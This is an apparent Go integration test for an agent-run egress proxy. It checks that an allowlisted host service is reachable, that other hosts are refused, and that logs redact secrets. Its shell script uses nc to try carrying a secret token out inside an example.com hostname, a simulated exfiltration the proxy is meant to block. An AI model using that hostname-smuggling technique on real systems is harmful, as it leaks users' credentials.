package runs_test

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	dockernetwork "github.com/docker/docker/api/types/network"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/slipwayhq/slipway/app/apptest"
	"github.com/slipwayhq/slipway/platform/containers"
	"github.com/slipwayhq/slipway/platform/egress/egresstest"
	"github.com/slipwayhq/slipway/platform/settings"
)

// outsideNetwork makes the egress proxies' way out for a test: an internal
// network of its own, so nothing leaves the machine, removed when the test
// ends. It returns the network's name and its gateway address, at which
// the proxies reach the host.
func outsideNetwork(t *testing.T, rt *containers.Runtime) (string, netip.Addr) {
	t.Helper()
	ctx := context.Background()
	outside := fmt.Sprintf("slipway-test-runs-out-%d", time.Now().UnixNano())
	_, err := rt.CreateNetwork(ctx, containers.NetworkSpec{Name: outside, Internal: true, Isolated: true,
		InstanceID: "test-runs-egress", Role: "test-outside"})
	require.NoError(t, err)
	t.Cleanup(func() { _ = rt.RemoveNetwork(context.Background(), outside) })
	n, err := rt.Client().NetworkInspect(ctx, outside, dockernetwork.InspectOptions{})
	require.NoError(t, err)
	return outside, netip.MustParseAddr(n.IPAM.Config[0].Gateway)
}

// TestRunWithEgressAllowlist runs an agent with runs.network allowlist: it
// reaches the one allowed service through the proxy, its other attempt is
// refused, both are lines of the run's log and of the server's, and the
// run's network and proxy are gone once the run is.
func TestRunWithEgressAllowlist(t *testing.T) {
	rt, image := apptest.RunImage(t)
	bin := egresstest.ProxyBinary(t)
	ctx := context.Background()

	outside, gw := outsideNetwork(t, rt)

	ln, err := net.Listen("tcp4", "0.0.0.0:0")
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			fmt.Fprintf(c, "HOST-SERVICE\n")
			c.Close()
		}
	}()
	allowed := fmt.Sprintf("%s:%d", gw, ln.Addr().(*net.TCPAddr).Port)

	h := start(t, apptest.WithRuns(image, "sh", "-c", agentScript), func(s *settings.Settings) {
		s.Runs.Network = settings.NetworkAllowlist
		s.Runs.AllowPrivateHosts = true // the allowed service is on the host
		s.Runs.Egress.Allow = []string{allowed}
		s.Runs.Egress.Network = outside
		s.Runs.Egress.ProxyBinary = bin
	})
	u := h.SignUp()
	repo := h.repo(t, u, map[string]string{"README.md": "# demo\n"})
	// An agent may carry a secret out in a host name: the proxy refuses it,
	// and the logs show the secret's name, never its value.
	h.putSecret(t, u, repo.ProjectID, "MODEL_TOKEN", "tok3nvalue42")
	script := `P=${HTTPS_PROXY#http://}; for target in ` + allowed + ` example.com:443 ${MODEL_TOKEN}.example.com:443; do ` +
		`printf 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' $target $target | nc -w 5 ${P%:*} ${P##*:} | tr -d '\r' | grep -v '^Date:'; done`
	r := h.create(t, u, repo.ID, map[string]any{"prompt": "sh: " + script})
	done := h.wait(t, u, r.ID, terminal)
	require.Equal(t, "succeeded", done.Status, "error: %v", done.Error)

	log := string(h.Get("/v1/runs/"+r.ID+"/logs", u.Token).Body)
	t.Logf("run log:\n%s", log)
	// The proxy's lines reach the log while the agent writes, so they may
	// fall between the agent's lines: read the agent's output without them.
	var agentOut strings.Builder
	for _, line := range strings.SplitAfter(log, "\n") {
		if !strings.HasPrefix(line, "[slipway egress]") {
			agentOut.WriteString(line)
		}
	}
	require.Contains(t, agentOut.String(), "HTTP/1.1 200 Connection established\n\nHOST-SERVICE\n")
	require.Contains(t, log, "slipway egress: refused example.com:443: not in the allowlist")
	require.Regexp(t, fmt.Sprintf(`(?m)^\[slipway egress\] allowed %s \(0 B out, 13 B in, \d+\.\ds\)$`, allowed), log)
	require.Contains(t, log, "[slipway egress] refused example.com:443: not in the allowlist\n")
	require.Contains(t, log, "[slipway egress] refused [secret:MODEL_TOKEN].example.com:443: not in the allowlist\n")
	require.NotContains(t, log, "tok3nvalue42")
	for _, e := range h.Logs().All() {
		for _, v := range e.ContextMap() {
			require.NotContains(t, fmt.Sprint(v), "tok3nvalue42", "server log: %s", e.Message)
		}
	}

	require.NotEmpty(t, h.Logs().FilterMessage("egress connection").FilterField(zap.String("run_id", r.ID)).All(),
		"the server log has the decisions too")
	require.Empty(t, h.containersOf(t, r.ID), "agent and proxy are removed")
	nets, err := h.rt.Networks(ctx, containers.Filter{RunID: r.ID})
	require.NoError(t, err)
	require.Empty(t, nets, "the run's network is removed")
}
